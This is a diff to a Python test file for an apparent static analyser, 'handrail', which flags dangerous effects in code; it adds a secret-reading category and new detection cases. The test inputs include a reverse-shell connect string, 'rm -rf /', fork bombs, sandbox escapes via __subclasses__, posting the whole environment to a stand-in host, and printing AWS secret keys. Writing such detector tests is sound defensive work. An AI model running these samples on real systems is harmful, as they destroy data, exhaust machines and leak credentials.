@@ -15,7 +15,15 @@ from handrail.shell.word import OPAQUE
 
 X = OPAQUE
 CONNECT = "import os,pty,socket,subprocess as p;s=socket.socket();s.connect(('a',4444))"
-DANGEROUS = {Kind.DELETE, Kind.UNSEEN, Kind.DESTROY, Kind.EXHAUST, Kind.KILL, Kind.PRIVILEGE}
+DANGEROUS = {
+    Kind.SECRET,
+    Kind.DELETE,
+    Kind.UNSEEN,
+    Kind.DESTROY,
+    Kind.EXHAUST,
+    Kind.KILL,
+    Kind.PRIVILEGE,
+}
 
 
 def effects(code: str) -> list[tuple[Kind, str]]:
@@ -44,6 +52,7 @@ def effects(code: str) -> list[tuple[Kind, str]]:
         ("import subprocess; subprocess.run(['bash'], input='rm -rf /', text=True)", "rm -rf /"),
         ("import subprocess; subprocess.run('ls', cwd='/etc')", "cd /etc && ls"),
         ("import os; os.chdir('/srv'); os.system('ls')", "cd /srv && ls"),
+        ("import os, subprocess as s; s.run(['ls', os.environ['HOME']+'/a b'])", "ls ~/'a b'"),
         ("import pty; pty.spawn('/bin/sh')", "/bin/sh"),
         ("import ctypes as c; c.cdll.LoadLibrary('libc.so.6').system(b'rm -rf /')", "rm -rf /"),
         ("import ctypes; ctypes.CDLL(None).system(b'id')", "id"),
@@ -51,6 +60,7 @@ def effects(code: str) -> list[tuple[Kind, str]]:
         ("exec('imp'+'ort os; os.sys'+'tem(\"rm x\")')", "rm x"),
         ("().__class__.__base__.__subclasses__()[9].__init__.__globals__['system']('id')", "id"),
         ("import os; (lambda f: f('id'))(os.system)", "id"),
+        ("import code; __builtins__.__dict__['__import__']('os').system('id')", "id"),
         ("import os; list(map(os.system, ['id']))", "id"),
         ("import os, threading; threading.Thread(target=os.system, args=('id',)).start()", "id"),
         ("import os, atexit; atexit.register(os.system, 'id')", "id"),
@@ -92,6 +102,12 @@ def test_every_value_of_a_loop_and_of_a_branch_is_taken() -> None:
         (Kind.DELETE, "/a"),
         (Kind.DELETE, "/b"),
     }
+    assert set(effects("import os\np='/a'\ntry: p='/b'\nexcept E: p='/c'\nos.remove(p)")) == {
+        (Kind.DELETE, "/a"),
+        (Kind.DELETE, "/b"),
+        (Kind.DELETE, "/c"),
+    }
+    assert read("import os\nx = {k: os.system(k) for k in ['id']}").scripts == ("id",)
 
 
 @pytest.mark.parametrize(
@@ -131,7 +147,7 @@ def test_a_program_that_is_started_without_a_shell_is_found(
          "/e/**/*"),
         ("import glob,os\nfor f in glob.glob('/e/*'): os.remove(f)", Kind.DELETE, "/e/*"),
         ("import os\nfor r,d,f in os.walk('/e'):\n for x in f: os.remove(os.path.join(r,x))",
-         Kind.DELETE, f"/e/{X}/{X}"),
+         Kind.DELETE, "/e/**/*"),
         ("import os; os.remove(os.path.join(os.environ['HOME'],'a'))", Kind.DELETE, "~/a"),
         ("import os; os.remove(os.path.expanduser('~/a'))", Kind.DELETE, "~/a"),
         ("import os; os.remove(os.getenv('HOME') + '/a')", Kind.DELETE, "~/a"),
@@ -165,6 +181,9 @@ def test_a_program_that_is_started_without_a_shell_is_found(
         ("import redis; redis.Redis().flushall()", Kind.DESTROY, "all keys"),
         ("import os; os.setuid(0); os.system('sh')", Kind.PRIVILEGE, "os.setuid(0)"),
         ("exec(open('setup.py').read())", Kind.RUN, "setup.py"),
+        ("import os; print(os.environ['AWS_SECRET_ACCESS_KEY'])", Kind.SECRET,
+         "AWS_SECRET_ACCESS_KEY"),
+        ("import os; print(dict(os.environ))", Kind.SECRET, "the environment"),
     ],
 )  # fmt: skip
 def test_an_effect_is_found_with_its_target(code: str, kind: Kind, target: str) -> None:
@@ -213,6 +232,7 @@ def test_hidden_text_is_also_read_where_it_can_be_decoded() -> None:
     ("code", "kind"),
     [
         ("import os\nwhile True: os.fork()", Kind.EXHAUST),
+        ("import os; [os.fork() for _ in iter(int, 1)]", Kind.EXHAUST),
         ("import os\ndef f():\n os.fork()\n f()\nf()", Kind.EXHAUST),
         ("import os; os.kill(-1, 9)", Kind.KILL),
         ("import os, requests; requests.post('http://a', json=dict(os.environ))", Kind.SEND),
@@ -259,6 +279,7 @@ def test_permissions_for_everybody_are_high(mode: str, severity: Severity) -> No
         "%timeit x.y()",
         "import base64; print(base64.b64decode('eA=='))",
         "import os; assert os.sep == '/'",
+        "import os; print(os.environ.get('PATH'), os.environ['HOME'])",
     ],
 )
 def test_ordinary_code_does_nothing_dangerous(code: str) -> None:
@@ -281,7 +302,7 @@ def test_code_without_any_known_name_is_not_parsed() -> None:
 def test_every_name_in_the_tables_gets_past_the_first_look() -> None:
     harmless = {"str", "chr", "unichr", "bytes", "bytearray", "input", "raw_input", "yaml", "sys"}
     harmless |= {"archive", "libc", "socket", "ssh", "database", "memory", "sqlalchemy", "psycopg"}
-    harmless |= {"psycopg2", "django"}
+    harmless |= {"psycopg2", "django", "print", "pprint", "pp"}
     for name in (*CALLS, *PREFIXES):
         skipped = name.startswith(("os.path.", "os.getcwd", "os.environ.setdefault"))
         root = name.partition(".")[0]
